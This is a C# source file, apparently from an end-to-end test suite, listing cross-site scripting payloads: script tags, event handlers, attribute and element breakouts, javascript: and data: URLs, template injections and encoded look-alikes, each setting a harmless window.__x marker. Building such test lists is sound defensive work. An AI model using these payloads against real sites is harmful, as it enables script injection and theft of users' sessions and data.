namespace E2E.Payloads;

/// <summary>Texts that would run as script where a page takes text for markup, for an address or for a part of a script. Each says so by window.__x.</summary>
internal static class ScriptPayloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Tags.
        "<script>window.__x=1</script>",
        "<SCRIPT SRC=//x.invalid/x.js></SCRIPT>",
        "<scr<script>ipt>window.__x=1</scr</script>ipt>",
        "<img src=x onerror=window.__x=1>",
        "<img src=\"x\" onerror=\"window.__x=1\">",
        "<IMG SRC=x OnErRoR=window.__x=1//",
        "<svg onload=window.__x=1>",
        "<svg/onload=window.__x=1>",
        "<svg><script>window.__x=1</script></svg>",
        "<svg><animate onbegin=window.__x=1 attributeName=x>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"/>",
        "<body onload=window.__x=1>",
        "<iframe src=javascript:parent.__x=1>",
        "<iframe srcdoc=\"<script>parent.__x=1</script>\">",
        "<object data=javascript:window.__x=1>",
        "<embed src=javascript:window.__x=1>",
        "<details open ontoggle=window.__x=1>",
        "<input autofocus onfocus=window.__x=1>",
        "<select autofocus onfocus=window.__x=1>",
        "<video><source onerror=window.__x=1>",
        "<audio src=x onerror=window.__x=1>",
        "<marquee onstart=window.__x=1>",
        "<math><mi xlink:href=javascript:window.__x=1>x",
        "<form action=javascript:window.__x=1><button>x",
        "<meta http-equiv=refresh content=0;javascript:1>",
        "<link rel=stylesheet href=//x.invalid/x.css>",
        "<style>@import'//x.invalid/x.css';</style>",
        "<base href=//x.invalid/>",
        "<template><img src=x onerror=window.__x=1></template>",
        "<a href=javascript:window.__x=1>x</a>",

        // Out of an attribute, a text or an element that takes no markup.
        "\" onmouseover=\"window.__x=1\" autofocus x=\"",
        "' onfocus='window.__x=1' autofocus x='",
        "\"><script>window.__x=1</script>",
        "'><img src=x onerror=window.__x=1>",
        "</title><script>window.__x=1</script>",
        "</textarea><img src=x onerror=window.__x=1>",
        "</option></select><img src=x onerror=window.__x=1>",
        "--><script>window.__x=1</script><!--",
        "]]><script>window.__x=1</script>",
        "</script><script>window.__x=1</script>",

        // Addresses, parts of scripts, templates.
        "javascript:window.__x=1",
        "data:text/html,<script>parent.__x=1</script>",
        "';window.__x=1;//",
        "\\\";window.__x=1;//",
        "${window.__x=1}",
        "{{constructor.constructor('window.__x=1')()}}",
        "@(window.__x=1)@{window.__x=1;}",

        // Entities and look-alikes.
        "&lt;script&gt;window.__x=1&lt;/script&gt;",
        "&#60;img src=x onerror=window.__x=1&#62;",
        "\uFF1Cscript\uFF1Ewindow.__x=1\uFF1C/script\uFF1E\u202E\u2028x",
    ];
}
